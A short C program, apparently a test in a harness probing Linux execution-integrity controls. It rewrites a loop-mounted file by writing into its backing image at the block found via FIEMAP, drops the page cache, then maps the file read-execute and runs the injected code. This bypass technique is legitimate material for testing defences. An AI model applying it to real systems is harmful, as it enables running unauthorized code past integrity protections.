/*
 * Attack: a file on a filesystem mounted before the run (a loop device over
 * an image file), rewritten by writing the image, not the file. The program
 * opens IMAGE for writing, finds FILE's first block in it (FIEMAP), writes
 * code there, drops FILE's cached page (POSIX_FADV_DONTNEED)
 * so the filesystem reads the block again, maps FILE R-X and runs it. FILE's
 * inode never changed and its filesystem is older than the run.
 *
 * usage: attack_loop_image IMAGE FILE
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fiemap.h>
#include <linux/fs.h>
#include <sys/ioctl.h>

#include "common.h"

int main(int argc, char **argv)
{
	size_t pg = tw_page();
	struct {
		struct fiemap map;
		struct fiemap_extent extent;
	} fm = { .map = { .fm_length = ~0ULL, .fm_flags = FIEMAP_FLAG_SYNC, .fm_extent_count = 1 } };
	int image, file;
	void *p;

	tw_init();
	if (argc != 3) {
		fprintf(stderr, "usage: %s IMAGE FILE\n", argv[0]);
		return 2;
	}
	image = open(argv[1], O_RDWR | O_CLOEXEC);
	tw_step("image_open", "open", image, errno);
	file = open(argv[2], O_RDONLY | O_CLOEXEC);
	if (image < 0 || file < 0)
		return 1;
	tw_step("file_fiemap", "ioctl", ioctl(file, FS_IOC_FIEMAP, &fm), errno);
	if (fm.map.fm_mapped_extents != 1)
		return 1;
	if (pwrite(image, TW_CODE, sizeof(TW_CODE), (off_t)fm.extent.fe_physical) != (ssize_t)sizeof(TW_CODE) || fsync(image) != 0)
		return 1;
	posix_fadvise(file, 0, 0, POSIX_FADV_DONTNEED);
	p = tw_mmap("file_rx_mmap", NULL, pg, TW_RX, MAP_PRIVATE, file, 0);
	if (p != MAP_FAILED && memcmp(p, TW_CODE, sizeof(TW_CODE)) == 0)
		tw_run("image_call", p);
	return tw_done();
}
